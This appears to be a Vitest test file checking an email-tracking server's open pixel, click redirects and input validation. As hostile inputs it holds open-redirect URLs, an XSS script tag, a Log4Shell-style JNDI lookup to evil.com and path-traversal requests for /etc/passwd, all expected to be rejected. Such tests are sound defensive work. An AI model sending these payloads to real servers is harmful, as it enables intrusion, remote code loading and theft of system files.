import { connect } from 'node:net'
import { describe, expect, it } from 'vitest'
import { startTestTarget } from '../target-fixture.ts'

describe('tracking', () => {
  it('answers an open with a tiny image and a click with a way to go on here', async () => {
    const { url, call } = await startTestTarget()
    const image = await fetch(`${url}/t/open/m-42.gif`)
    expect(image.headers.get('content-type')).toBe('image/gif')
    expect(
      Buffer.from(await image.arrayBuffer())
        .subarray(0, 6)
        .toString(),
    ).toBe('GIF89a')
    const to = async (query: string) => (await call('GET', `/t/click/test-1${query}`)).headers.get('location')
    expect((await call('GET', '/t/click/m-1')).status).toBe(302)
    expect(await to('?url=/orders?limit=1')).toBe('/orders?limit=1')
    expect(await to(`?url=${btoa('/orders')}`)).toBe('/orders')
    for (const away of ['https://example.com', '//example.com', '/\\example.com', btoa('https://example.com')]) {
      expect(await to(`?url=${encodeURIComponent(away)}`)).toBe('/landing')
    }
    expect((await call('GET', '/landing')).status).toBe(200)
  })

  it('answers 404 for unknown ids and 400 for malformed ones', async () => {
    const { call } = await startTestTarget()
    const statuses = async (ids: string[]) => {
      const replies = await Promise.all(ids.map((id) => call('GET', `/t/open/${id}`)))
      return replies.map(({ status }) => status)
    }
    expect(await statuses(['m-100001', 'm-0', 'nobody', 'm-99999.gif'])).toEqual([404, 404, 404, 200])
    const hostile = ['<script>alert(1)</script>', '$' + '{jndi:ldap://evil.com}', '%2e%2e%2fetc', 'x'.repeat(65), '']
    expect(await statuses(hostile)).toEqual([400, 400, 400, 400, 400])
    expect((await call('GET', '/metrics.json')).body.tracking).toMatchObject({ opens: 1, unknown: 3, malformed: 5 })
  })

  it('takes a path as it was sent, dots and all', async () => {
    const { url } = await startTestTarget()
    const answer = await new Promise<string>((resolve) => {
      const socket = connect(Number(new URL(url).port), '127.0.0.1', () =>
        socket.write('GET /t/open/../../../etc/passwd HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n'),
      )
      socket.on('data', (data) => resolve(data.toString()))
    })
    expect(answer).toMatch(/^HTTP\/1\.1 400 /)
  })
})
